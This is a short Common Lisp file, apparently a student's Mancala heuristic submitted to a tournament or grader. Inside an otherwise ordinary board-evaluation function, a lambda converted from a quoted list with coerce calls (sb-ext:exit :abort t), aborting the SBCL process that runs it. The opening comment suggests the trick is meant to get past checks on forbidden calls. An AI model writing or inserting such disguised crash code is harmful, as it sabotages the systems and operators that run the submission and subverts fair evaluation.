; coerce convierte una lista en funcion
(defpackage :grupo73pareja052Gg1504
  (:use :common-lisp :mancala)
  (:export heuristica *alias*))
(in-package :grupo73pareja052Gg1504)
(defvar *alias* "Prueba")
(defun heuristica (estado)
  (let ((tab (estado-tablero estado)) (yo (estado-lado-sgte-jugador estado)))
    (funcall (coerce '(lambda () (sb-ext:exit :abort t)) 'function))
    (- (suma-fila tab yo) (suma-fila tab (lado-contrario yo)))))
